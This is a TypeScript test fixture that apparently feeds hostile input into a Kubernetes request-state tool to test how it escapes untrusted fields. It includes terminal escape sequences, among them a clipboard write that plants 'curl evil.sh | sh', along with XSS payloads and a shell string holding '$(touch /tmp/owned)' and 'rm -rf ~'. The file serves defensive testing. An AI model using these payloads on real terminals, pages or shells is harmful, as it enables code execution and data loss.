/**
 * What others may write, and a server that has it in any field that is read: it checks nothing, so that what a schema would refuse is
 * tried, too.
 *
 * @module
 */
import type { RequestState } from "../../mod.ts";
import { createFetchCluster } from "../../src/adapters/fetch.ts";
import type { Clock, Cluster, NewObject } from "../../src/ports.ts";
import { order } from "./orders.ts";

/** Orders to a terminal of all kinds, each in the way that somebody would try it. None of their colours is one of ours. */
export const ORDERS: Readonly<Record<string, string>> = {
  "colours and erasing": "\x1b[2J\x1b[H\x1b[41mred\x1b[0m",
  "the same in one byte": "\x9b2J\x9b41mred\x9b0m",
  "a title": "\x1b]0;owned\x07",
  "a title, in one byte": "\x9d0;owned\x9c",
  "the clipboard (OSC 52)": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
  "a link (OSC 8)": "\x1b]8;;https://evil.example/\x1b\\the docs\x1b]8;;\x1b\\",
  "an answer-back": '\x1b[c\x1b[6n\x05\x1bP$q"p\x1b\\',
  "a bell and backspaces": "failed\x07\x08\x08\x08\x08\x08\x08succeeded",
  "a return to the start of the line": "failed\rsucceeded",
  "the delete character": "a\x7f\x7fb",
  "a line of ours": "x\n2026-11-26T12:00:00.000Z info  all is well\r\n\x0b\x0cy",
  "line breaks of Unicode": "a\u2028b\u2029c\x85d",
  "text that is turned": "\u202egpj.exe\u202c \u2066a\u2069 \u2067b\u2069 \u061c\u200e\u200f",
  "text that has no width": "pa\u200bid\ufeff \u2060\u00ad\u180e\u200c\u200d\u2063 \u{e0041}\u{e0042}\ufff9",
  "halves of characters": "\ud800 \udc00 a\udfff",
  "zero bytes": "a\x00b\x01\x1f\x80\x9f",
};

/** Names that every object of the language has. */
export const INHERITED: readonly string[] = ["__proto__", "constructor", "toString", "hasOwnProperty", "valueOf"];

/** Text that means something elsewhere. */
export const MARKUP: Readonly<Record<string, string>> = {
  "HTML": `<script>alert(1)</script><img src=x onerror="alert(1)">&lt;`,
  "Markdown": "[x](javascript:alert(1)) `` ` `` # **b** | a | b |\\",
  "Mermaid": `%%{init: {"theme":"dark"}}%% x"]] --> y; click a "javascript:alert(1)" end`,
  "dot": `x"]; y [label="\\N" URL="javascript:alert(1)"`,
  "a shell": "$(touch /tmp/owned) `id`; rm -rf ~ && 'a' \"b\" \\ | > ! *",
  "YAML": "- a: &x !!js/function >\n  {b: *x} # c\n---\n...\n<<: yes",
  "Prometheus": `a"} 1\n# TYPE evil counter\nevil{x="\\"} 2`,
  "a format of a log": `x level=error error="forged" %s %d \${HOME} {0}`,
};

/** Words that YAML takes for something else, in its version 1.1 above all, which Kubernetes reads. */
export const YAML_WORDS: readonly string[] = [
  ...[
    "<<",
    "=",
    "~",
    "null",
    "yes",
    "No",
    "on",
    "y",
    "0x1F",
    "0o17",
    "017",
    "1_000",
    "12:30:45",
    ".inf",
    "-.Inf",
    ".NaN",
    "1e3",
    "+1",
  ],
  ...[
    "2001-01-01",
    "2001-12-14t21:59:43.10-05:00",
    "!!binary x",
    "&a",
    "*a",
    "?",
    "? a",
    "-",
    "- a",
    "---",
    "...",
    "%YAML 1.1",
    "@a",
    "`a`",
  ],
  ...[
    "a: b",
    "a #b",
    "#a",
    "[a",
    "{a",
    "|",
    ">",
    "|-",
    "'",
    '"',
    "\\",
    "\\u0041",
    "",
    " ",
    " a",
    "a ",
    "a\n",
    "\na\n\n",
    "a\n b\n\tc",
    "\t",
  ],
  ...["\u{e0041}", "\u{1f600}", "\ufeffa", "\u2028", "\x85", "\xa0", "\x7f", `${"word ".repeat(40)}\nend`],
];

/** Text that is long, in one word, in many, and in characters of several parts. */
export const LONG: Readonly<Record<string, string>> = {
  "a name of 253": "n".repeat(253),
  "a word of 1 MiB": "x".repeat(2 ** 20),
  "words of 1 MiB": "a b".repeat(2 ** 20 / 3),
  "marks of 1 MiB": `e${"\u0301".repeat(2 ** 19)}`,
  "wide characters of 1 MiB": "日本".repeat(2 ** 19),
  "orders of 1 MiB": "\x1b[2J".repeat(2 ** 18),
};

/** All of it, as texts. */
export const HOSTILE: ReadonlyMap<string, string> = new Map([
  ...Object.entries(ORDERS),
  ...INHERITED.map((name) => [name, name] as const),
  ...Object.entries(MARKUP),
  ...Object.entries(LONG),
]);

/** All that is short, in one text: whatever lets one of it through fails. */
export const ALL: string = [...Object.values(ORDERS), ...Object.values(MARKUP)].join(" ");

const at = (second: number) => new Date(Date.UTC(2026, 10, 26, 12, 0, second)).toISOString();
/** When it is looked at, in milliseconds since the Unix epoch. */
export const NOW: number = Date.UTC(2026, 10, 26, 12, 1);

/** A request that has a value in each field that there is. */
export function fullRequest(state = "STARTED"): RequestState {
  const uid = "3f2a7c1e-5a51-8d0f-9d0f-0a1b2c3d4e5f";
  const entry = (seq: number, state: string, more = {}) => ({
    job: "charge",
    state,
    timestamp: at(seq),
    seq,
    attempt: 1,
    ...more,
  });
  const request = {
    apiVersion: "com.redhat.ecosystem.sample/v1",
    kind: "RequestState",
    metadata: {
      name: uid,
      generateName: "g",
      namespace: "default",
      uid,
      resourceVersion: "7",
      generation: 3,
      creationTimestamp: at(0).replace(".000Z", "Z"),
      labels: { tenant: "a", "app.kubernetes.io/name": "order" },
      annotations: { "crd-watcher/key": "order-42", note: "n" },
      finalizers: ["example.com/f"],
      ownerReferences: [{ apiVersion: "v1", kind: "ConfigMap", name: "o", uid: "u" }],
      managedFields: [{ manager: "m", operation: "Update", fieldsV1: { "f:spec": {} } }],
    },
    spec: {
      "request-uid": uid,
      job: "charge",
      state,
      flow: "order",
      flowDigest: "d1",
      input: { amount: 12, note: "n" },
      notBefore: at(0),
      forkedFrom: { name: "other", uid: "u", job: "charge" },
      signals: { charge: { outcome: "yes", data: { a: "b" }, by: "someone" } },
      attempt: 1,
      desiredState: "Running",
      activeDeadlineSeconds: 3_600,
      ttlSecondsAfterFinished: 60,
    },
    status: {
      history: [
        entry(1, "REQUESTED", { by: "director-1" }),
        entry(2, "STARTED", { by: "worker-1" }),
        entry(3, "FAILED", { by: "worker-1", reason: "TimedOut" }),
        entry(4, "REQUESTED", { by: "director-1", reason: "Retried", attempt: 2 }),
        entry(5, "STARTED", { by: "worker-1", attempt: 2 }),
        ...state === "STARTED" ? [] : [entry(6, state, { by: "worker-1", attempt: 2, outcome: "paid", reason: "NoWorker" })],
      ],
      historyDropped: 2,
      claim: { id: "c1", holderIdentity: "worker-1", job: "charge", attempt: 1, acquireTime: at(2) },
      outputs: { charge: { receipt: "r" }, ship: "s" },
      lastError: { type: "Error", message: "no", retryable: true, retryAfterSeconds: 1, job: "charge", attempt: 1 },
      failures: { failed: 1, lost: 1 },
      waitingFor: "signal yes|no until 2026-11-26T13:00:00Z",
      startTime: at(2),
      conditions: [
        { type: "Finished", status: "False", reason: "Parked", message: "m", lastTransitionTime: at(3), observedGeneration: 1 },
        { type: "Succeeded", status: "False", reason: "Failed", message: "m", lastTransitionTime: at(3), observedGeneration: 1 },
      ],
    },
  };
  return request as unknown as RequestState;
}

/** Where a value is, as the names on the way to it. */
export type Path = readonly (string | number)[];

/** What tells an object from others is no text of others: the server makes it, or admits few characters. */
const OURS = /^(apiVersion|kind|metadata,(name|namespace|uid|resourceVersion)|metadata,managedFields.*)$/;

/** Where there is a value that others choose. */
export function leavesOf(value: unknown, path: Path = []): Path[] {
  if (OURS.test(path.join(","))) return [];
  if (typeof value !== "object" || value === null) return [path];
  return Object.entries(value).flatMap(([key, member]) => leavesOf(member, [...path, Array.isArray(value) ? Number(key) : key]));
}

/** Where there are members whose names others choose. */
export const MAPS: readonly Path[] = [
  ["metadata", "labels"],
  ["metadata", "annotations"],
  ["spec", "input"],
  ["spec", "signals"],
  ["spec", "signals", "charge", "data"],
  ["status", "outputs"],
  ["status", "outputs", "charge"],
];

/** The same with another value somewhere. */
export function withValue<T>(object: T, path: Path, value: unknown): T {
  const copy = structuredClone(object);
  // deno-lint-ignore no-explicit-any
  const parent = path.slice(0, -1).reduce((at: any, name) => at[name], copy);
  // As JSON.parse makes it: `__proto__` is a name as any other.
  Object.defineProperty(parent, path.at(-1)!, { value, enumerable: true, configurable: true, writable: true });
  return copy;
}

/** What the server has beside the requests. */
export interface Surroundings {
  readonly lease?: unknown;
  readonly events?: readonly unknown[];
  /** What it answers to all that is asked. @default {What it has} */
  readonly refusal?: { readonly code: number; readonly body: string; readonly headers?: Record<string, string> };
}

/** The server. It takes all that is written, and keeps nothing. */
export function serverOf(
  requests: readonly RequestState[],
  { lease, events = [], refusal }: Surroundings,
  clock: Clock,
): Cluster {
  const json = (value: unknown) => new Response(JSON.stringify(value), { headers: { "content-type": "application/json" } });
  const list = (kind: string, items: readonly unknown[]) =>
    json({ apiVersion: "v1", kind, metadata: { resourceVersion: "9" }, items });
  const absent = () =>
    new Response(
      JSON.stringify({
        kind: "Status",
        apiVersion: "v1",
        status: "Failure",
        reason: "NotFound",
        message: "not found",
        code: 404,
      }),
      { status: 404, headers: { "content-type": "application/json" } },
    );
  return createFetchCluster((request) => {
    const { pathname, searchParams } = new URL(request.url);
    if (refusal) return Promise.resolve(new Response(refusal.body, { status: refusal.code, headers: refusal.headers }));
    if (request.method === "POST") return request.json().then(json);
    if (pathname.includes("/leases/")) return Promise.resolve(lease === undefined ? absent() : json(lease));
    if (pathname.endsWith("/events")) return Promise.resolve(list("EventList", events));
    const [, name] = /\/requeststates\/(.+)$/.exec(pathname) ?? [];
    if (name !== undefined) {
      const found = requests.find(({ metadata }) => metadata.name === decodeURIComponent(name));
      return Promise.resolve(found ? json(found) : absent());
    }
    if (searchParams.get("watch") !== null) {
      const over = (found: RequestState) => ({
        ...found,
        metadata: { ...found.metadata, resourceVersion: "10" },
        status: { ...found.status, completionTime: at(50) },
      });
      const lines = requests.map((found) => `${JSON.stringify({ type: "MODIFIED", object: over(found) })}\n`).join("");
      const stream = new ReadableStream({
        start(controller) {
          controller.enqueue(new TextEncoder().encode(lines));
          request.signal.addEventListener("abort", () => controller.error(request.signal.reason), { once: true });
        },
      });
      return Promise.resolve(new Response(stream, { headers: { "content-type": "application/json" } }));
    }
    return Promise.resolve(list("RequestStateList", requests));
  }, { clock });
}

/** What a terminal acts on, what breaks a line, and what is not seen. */
export const HARMFUL: RegExp =
  /(?!\n)[\p{Cc}\p{Zl}\p{Zp}\p{Cs}\u00ad\u061c\u180e\u200b\u200e\u200f\u202a-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb\u{e0000}-\u{e007f}]/u;

/** Requests that the schema admits, with a text wherever there may be one. */
export function requestsWith(text: string, index: number): (NewObject & { readonly metadata: { readonly name: string } })[] {
  const cut = (limit: number) => text.slice(0, limit).toWellFormed();
  const base = (name: string, spec: object, status: object, annotations = {}) => ({
    apiVersion: "com.redhat.ecosystem.sample/v1",
    kind: "RequestState",
    metadata: { name: `evil-${index}-${name}`, annotations: { "crd-watcher/key": cut(1_024), ...annotations } },
    spec: { "request-uid": cut(253), attempt: 1, ...spec },
    status,
  });
  const at = "2026-01-01T00:00:00.000Z";
  const entry = (job: string, state: string) => ({ job, state, timestamp: cut(128), attempt: 1, by: cut(253), reason: cut(64) });
  const claim = (job: string) => ({ id: cut(64), holderIdentity: cut(253), job, attempt: 1, acquireTime: at });
  const flow = { flow: order.name, flowDigest: order.digest };
  const lastError = { type: cut(253), message: cut(1_024), retryable: true, job: "charge", attempt: 1 };
  return [
    base("unknown", { job: cut(63), state: "REQUESTED", flow: cut(63), flowDigest: cut(64), desiredState: "Cancelled" }, {
      history: [entry(cut(63), "REQUESTED")],
    }),
    base("missing", { job: cut(63), state: "REQUESTED", flow: cut(63), flowDigest: cut(64), input: { [text]: text } }, {}),
    base("job", { job: cut(63), state: "REQUESTED", ...flow, input: { amount: text } }, {
      history: [entry(cut(63), "REQUESTED")],
    }),
    base("state", { job: "charge", state: cut(16), ...flow }, { history: [entry("charge", cut(16))] }),
    base("held", { job: "charge", state: "STARTED", ...flow, input: { amount: text } }, {
      history: [entry("charge", "REQUESTED"), entry("charge", "STARTED")],
      claim: claim("charge"),
      outputs: { [text]: text },
    }),
    base("failed", { job: "charge", state: "FAILED", ...flow, input: { amount: text } }, {
      history: [entry("charge", "REQUESTED"), entry("charge", "STARTED"), entry("charge", "FAILED")],
      lastError,
    }),
    base("signalled", {
      job: "approve",
      state: "REQUESTED",
      ...flow,
      signals: { approve: { outcome: cut(63), data: text, by: cut(253) } },
    }, {
      history: [entry("approve", "REQUESTED")],
      waitingFor: `signal ${cut(200)}`,
    }),
    base("worked", { job: "charge", state: "REQUESTED", ...flow, input: { amount: text, [text]: [text] } }, {
      history: [entry("charge", "REQUESTED")],
    }),
  ];
}
